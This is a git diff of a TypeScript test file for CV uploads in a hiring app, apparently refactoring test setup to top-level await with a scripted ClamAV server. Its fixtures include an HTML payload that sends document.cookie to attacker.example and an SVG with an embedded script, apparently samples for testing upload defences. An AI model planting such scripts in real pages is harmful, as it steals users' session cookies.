@@ -3,12 +3,11 @@
 import { readFileSync } from 'node:fs'
 import path from 'node:path'
 import { strToU8, zipSync } from 'fflate'
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import { afterAll, expect, test } from 'vitest'
 import type { ApplicantProfile } from '#domain/applicants/applicant-profile.ts'
 import { CV_MAX_BYTES, DOCX_LIMITS, warningsOf } from '#domain/cvs/cvs.ts'
-import type { JobPost } from '#domain/jobs/jobs.ts'
-import { createTestApp, type Member, type TestApp } from '../app.ts'
-import { startScriptedClamd, type ScriptedClamd } from '../servers/clamd.ts'
+import { openApp } from '../app.ts'
+import { startScriptedClamd } from '../servers/clamd.ts'
 import { lyingDocx } from './cv-files.ts'
 import { compound, docx, executable, pdf } from './files.ts'
 import {
@@ -28,20 +27,11 @@ import { workDue } from '../work.ts'
 
 const root = path.resolve(import.meta.dirname, '../..')
 
-let clamd: ScriptedClamd
-let app: TestApp
-let owner: Member
-let job: JobPost
-beforeAll(async () => {
-  clamd = await startScriptedClamd()
-  app = await createTestApp({ env: { CLAMAV_URL: clamd.url } })
-  owner = await app.owner()
-  job = await app.job(owner)
-})
-afterAll(async () => {
-  await app.close()
-  await clamd.stop()
-})
+const clamd = await startScriptedClamd()
+afterAll(() => clamd.stop())
+const app = await openApp({ env: { CLAMAV_URL: clamd.url } })
+const owner = await app.owner()
+const job = await app.job(owner)
 
 const html = '<!doctype html><script>fetch("https://attacker.example/" + document.cookie)</script>'
 const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
